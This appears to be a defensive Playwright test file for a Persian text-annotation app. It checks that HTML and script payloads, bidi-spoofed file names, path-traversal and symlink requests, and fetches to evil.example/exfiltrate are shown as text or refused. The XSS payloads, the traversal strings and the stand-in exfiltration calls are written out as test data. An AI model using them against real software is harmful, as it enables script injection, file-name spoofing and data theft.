/**
 * An article is data, never code: HTML and script in an article, in its annotations and in the
 * corpus tag set show as text and run nothing; file names with bidi controls cannot pose as
 * other names; the page cannot reach the network, evaluate strings or read outside the corpus.
 */
import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { expect, makeCorpus, openArticleNamed, screenshot, test } from './fixtures';

const PAYLOADS = [
  `<img src=x onerror="window.__hashiyePwned='img'">`,
  `<script>window.__hashiyePwned='script'</script>`,
  `<svg onload="window.__hashiyePwned='svg'"></svg>`,
  `<iframe src="javascript:parent.__hashiyePwned='iframe'"></iframe>`,
  `<a href="javascript:window.__hashiyePwned='link'">کلیک کنید</a>`,
  `{{constructor.constructor('window.__hashiyePwned="template"')()}}`,
  `&lt;b&gt;entities stay as typed&lt;/b&gt; &amp;`,
];
const ARTICLE = `خبر فوری از تهران\n${PAYLOADS.map((payload, index) => `بند ${index + 1}: ${payload} پایان بند`).join('\n')}\n`;
const SPOOFED = 'invoice\u202Efdp.txt';
const ISOLATE_SPOOF = '\u2067گزارش\u2069 (2).txt';
const HOSTILE_LABEL = `<img src=x onerror="window.__hashiyePwned='tag'">`;
const HOSTILE_ID = `"><img src=x onerror="window.__hashiyePwned='id'">`;

function codePointIndex(text: string, needle: string): number {
  return Array.from(text.slice(0, text.indexOf(needle))).length;
}

/** A valid NAME.ann.json whose one annotation covers the <img> payload and whose note is HTML too. */
function annotationFileFor(articleName: string, text: string): string {
  const needle = PAYLOADS[0];
  const start = codePointIndex(text, needle);
  return JSON.stringify({
    format: 'hashiye-annotations',
    version: 1,
    offsetUnit: 'codepoint',
    source: { file: articleName, sha256: createHash('sha256').update(text).digest('hex'), encoding: 'utf-8', length: Array.from(text).length },
    status: 'in-progress',
    annotations: [{ id: HOSTILE_ID, type: 'XSS', start, end: start + Array.from(needle).length, text: needle, note: `<script>window.__hashiyePwned='note'</script>` }],
    relations: [],
    labels: [],
  });
}

const TAG_SET = JSON.stringify({
  version: 1,
  types: [
    { id: 'XSS', label: { fa: HOSTILE_LABEL, en: HOSTILE_LABEL }, color: '#d6336c', guideline: `<script>window.__hashiyePwned='guideline'</script>` },
    { id: 'PER', label: { fa: 'شخص', en: 'Person' }, color: '#1971c2' },
  ],
});

async function pwnedFlag(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __hashiyePwned?: unknown }).__hashiyePwned);
}

test('HTML and script in an article, its annotations and the tag set show as text and run nothing', async ({ launch }) => {
  const corpus = await makeCorpus({
    'hostile.txt': ARTICLE,
    'hostile.ann.json': annotationFileFor('hostile.txt', ARTICLE),
    'hashiye.json': TAG_SET,
  });
  const { page } = await launch({ corpus });
  await openArticleNamed(page, 'hostile.txt');
  const article = page.getByTestId('article');
  for (const payload of PAYLOADS) await expect(article).toContainText(payload);
  await expect(article.locator('img, script, svg, iframe, a, object, embed, style, link')).toHaveCount(0);

  // The annotation over the <img> payload: highlighted as text, listed as text, its HTML note as text.
  const highlight = page.locator('[data-testid="article"] [data-entity-type="XSS"]');
  await expect(highlight).toHaveCount(1);
  await expect(highlight).toHaveAttribute('data-annotation-id', HOSTILE_ID);
  await expect(highlight).toHaveText(PAYLOADS[0]);
  await expect(page.getByTestId('annotation-list')).toContainText(PAYLOADS[0]);
  await page.getByTestId('annotation-list').getByRole('button').first().click();
  await expect(page.locator('.annotation-details')).toContainText(PAYLOADS[0]);

  // The tag set's label is a button name, not markup.
  await expect(page.getByRole('button', { name: `${HOSTILE_LABEL} XSS` })).toBeVisible();

  await expect(page.locator('img[src="x"], iframe, svg[onload], script:not([src])')).toHaveCount(0);
  expect(await pwnedFlag(page)).toBeUndefined();
  await screenshot(page, 'hostile-article');
});

test('the page cannot evaluate strings, run injected inline script or reach the network', async ({ launch }) => {
  const corpus = await makeCorpus({ 'a.txt': 'متن ساده' });
  const { page } = await launch({ corpus });
  const outcome = await page.evaluate(async () => {
    const results: Record<string, string> = {};
    // Code the test runner evaluates may generate code; code the page runs later may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    try {
      results.function = String(new Function('return "ran"')());
    } catch {
      results.function = 'blocked';
    }
    const script = document.createElement('script');
    script.textContent = `window.__hashiyePwned = 'inline'`;
    document.body.append(script);
    script.remove();
    try {
      await fetch('https://evil.example/exfiltrate');
      results.fetch = 'loaded';
    } catch {
      results.fetch = 'blocked';
    }
    results.image = await new Promise<string>((resolve) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('blocked');
      image.src = 'https://evil.example/pixel.png';
    });
    return results;
  });
  expect(outcome).toEqual({ function: 'blocked', fetch: 'blocked', image: 'blocked' });
  expect(await pwnedFlag(page)).toBeUndefined();
});

test('file names with bidi controls show the controls instead of obeying them', async ({ launch }) => {
  const corpus = await makeCorpus({ [SPOOFED]: 'فاکتور', [ISOLATE_SPOOF]: 'گزارش دوم', 'عادی‌ها.txt': 'متن' });
  const { page } = await launch({ corpus });
  const list = page.getByTestId('file-list');
  await expect(list).toContainText('invoice⟨U+202E⟩fdp.txt');
  await expect(list).toContainText('⟨U+2067⟩گزارش⟨U+2069⟩ (2).txt');
  // ZWNJ in a Persian name is a letter joiner, not a trick: shown as it is.
  await expect(list).toContainText('عادی‌ها.txt');
  const shown = await list.evaluate((element) => element.textContent ?? '');
  expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  await expect(list.locator('bdi.file-name')).toHaveCount(3);
  await openArticleNamed(page, 'invoice⟨U+202E⟩fdp.txt');
  await expect(page.getByTestId('article')).toHaveText('فاکتور');
  await screenshot(page, 'hostile-file-names');
});

test('a binary file is listed with the reason it cannot be read', async ({ launch }) => {
  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, ...new Array(64).fill(0)]);
  const corpus = await makeCorpus({ 'photo.txt': png, 'a.txt': 'متن' });
  const { page } = await launch({ corpus });
  const entry = page.getByTestId('file-list').getByRole('button', { name: /photo\.txt/ });
  await expect(entry.locator('.file-problem')).toHaveAttribute('aria-label', /PNG/);
});

test('window.api refuses paths that leave the corpus and malformed requests', async ({ launch }) => {
  const outside = await fs.mkdtemp(path.join(os.tmpdir(), 'hashiye-outside-'));
  await fs.writeFile(path.join(outside, 'secret.txt'), 'TOP SECRET outside the corpus');
  const corpus = await makeCorpus({ 'a.txt': 'متن' });
  await fs.symlink(path.join(outside, 'secret.txt'), path.join(corpus, 'link.txt'));
  const { page } = await launch({ corpus });
  const requests: unknown[] = [
    { id: '../secret.txt' },
    { id: path.join(outside, 'secret.txt') },
    { id: 'link.txt' },
    { id: 'a.txt/../../secret.txt' },
    { id: 42 },
    { id: 'a.txt', extra: true },
    { id: 'a.txt\u0000.png' },
    'a.txt',
    null,
  ];
  const answers = await page.evaluate(async (list) => {
    const api = (window as unknown as { api: { article: { load(request: unknown): Promise<unknown> } } }).api;
    const results: string[] = [];
    for (const request of list) {
      try {
        results.push(`loaded ${JSON.stringify(await api.article.load(request))}`);
      } catch (error) {
        results.push(`refused ${(error as Error).message}`);
      }
    }
    return results;
  }, requests);
  for (const answer of answers) {
    expect(answer).toMatch(/^refused /);
    expect(answer).not.toContain('TOP SECRET');
  }
  await fs.rm(outside, { recursive: true, force: true });
});
